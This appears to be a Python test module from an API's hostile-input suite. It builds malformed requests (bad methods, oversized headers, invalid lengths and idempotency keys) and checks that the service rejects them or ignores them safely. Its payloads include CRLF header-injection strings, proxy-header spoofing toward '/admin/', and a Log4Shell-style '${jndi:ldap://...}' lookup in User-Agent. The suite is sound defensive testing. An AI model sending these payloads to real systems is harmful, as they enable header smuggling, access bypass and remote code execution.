"""Methods and headers that are not what they should be."""

from collections.abc import Iterator
from typing import Any

from tests.api.hostile.attack import MARK, Attack, attack
from tests.api.matrix_table import TABLE

_METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "FOO")
_FUNCTIONS = ("/v1/docs", "/v1/openapi.json")  # what they serve they serve to everybody
_ACCEPTS = ("text/html", "application/xml", "text/csv;q=1", "application/jsonx", "nonsense", "*/html")
_BAD_KEYS = {
    "empty": "",
    "256 letters": "k" * 256,
    "10 kB": "k" * 10_000,
    "not ASCII": "é",
    "an emoji": "\U0001f600",
    "a tab": "a\tb",
    "a control character": "a\x01b",
    "delete": "a\x7f",
    "a line end": "a\r\nX-Evil: 1",
}


def attacks(operations: list[str]) -> Iterator[Attack]:
    """All of this module, for these operations."""
    for operation in operations:
        route = operation.split(" ")[1]
        for method in _METHODS:
            if f"{method} {route}" not in operations:
                yield attack(operation, f"method {method}", 405, "method_not_allowed", method=method)
        yield attack(operation, "headers of 17 KB", 431, "headers_too_large", Cookie="a=" + "b" * 17_000)
        flood: dict[str, Any] = {f"X_Flood_{number}": "x" * 100 for number in range(200)}
        yield attack(operation, "200 headers", 431, "headers_too_large", **flood)
        yield attack(operation, "a length that is none", 400, "malformed_request", Content_Length="-1")
        yield attack(operation, "a length with an exponent", 400, "malformed_request", Content_Length="1e3")
        if TABLE[operation].refused == 401:
            yield attack(operation, "a bad token", 401, "invalid_token", Authorization=f"Bearer {MARK}")
        if not route.startswith((*_FUNCTIONS, "/v1/webhooks")):
            yield from _accepts(operation)
        if operation in _KEYED:
            for name, key in _BAD_KEYS.items():
                yield attack(operation, f"key: {name}", 400, "invalid_idempotency_key", Idempotency_Key=key)


_KEYED = (
    "POST /v1/offers/{offer_id}/accept",
    "POST /v1/offers/{offer_id}/reject",
    "POST /v1/orders/{order_id}/cancel",
    "POST /v1/orders/{order_id}/pay",
)


def _accepts(operation: str) -> Iterator[Attack]:
    for accept in _ACCEPTS:
        yield attack(operation, f"accept: {accept}", 406, "not_acceptable", Accept=accept)


# What looks like an attack and has no power: the reply is that of the harmless request.
_POWERLESS: dict[str, dict[str, Any]] = {
    "another method in a header": {"X_HTTP_Method_Override": "DELETE"},
    "another method, Google's way": {"X_HTTP_Method": "PUT", "X_Method_Override": "PATCH"},
    "a trace that is none": {"traceparent": MARK},
    "a trace of zeroes": {"traceparent": "00-" + "0" * 32 + "-" + "0" * 16 + "-00"},
    "a request id with a line end": {"X_Request_ID": "a\r\nSet-Cookie: a=" + MARK},
    "a request id of 5 KB": {"X_Request_ID": MARK * 700},
    "a request id with markup": {"X_Request_ID": f"<b>{MARK}</b>"},
    "another host behind the proxy": {"X_Forwarded_Host": f"{MARK}.example"},
    "another scheme behind the proxy": {"X_Forwarded_Proto": MARK},
    "another address behind the proxy": {"X_Forwarded_For": f"{MARK}, 127.0.0.1", "Forwarded": f"for={MARK}"},
    "another path behind the proxy": {"X_Original_URL": "/admin/", "X_Rewrite_URL": "/admin/"},
    "a range": {"Range": "bytes=0-0,-1"},
    "conditions": {"If_None_Match": f'"{MARK}"', "If_Modified_Since": "yesterday"},
    "a session that is none": {"Cookie": f"sessionid={MARK}; csrftoken={MARK}"},
    "a language that is none": {"Accept_Language": MARK * 20},
    "a look-up in the agent": {"User_Agent": "${jndi:ldap://x/a}"},
    "an encoding that is none": {"Accept_Encoding": MARK},
    "an expectation": {"Expect": "100-continue"},
}


def powerless(operations: dict[str, int]) -> Iterator[Attack]:
    """All of them for each operation, given what its harmless request is answered with."""
    for operation, status in operations.items():
        for name, headers in _POWERLESS.items():
            yield attack(operation, name, status, **headers)
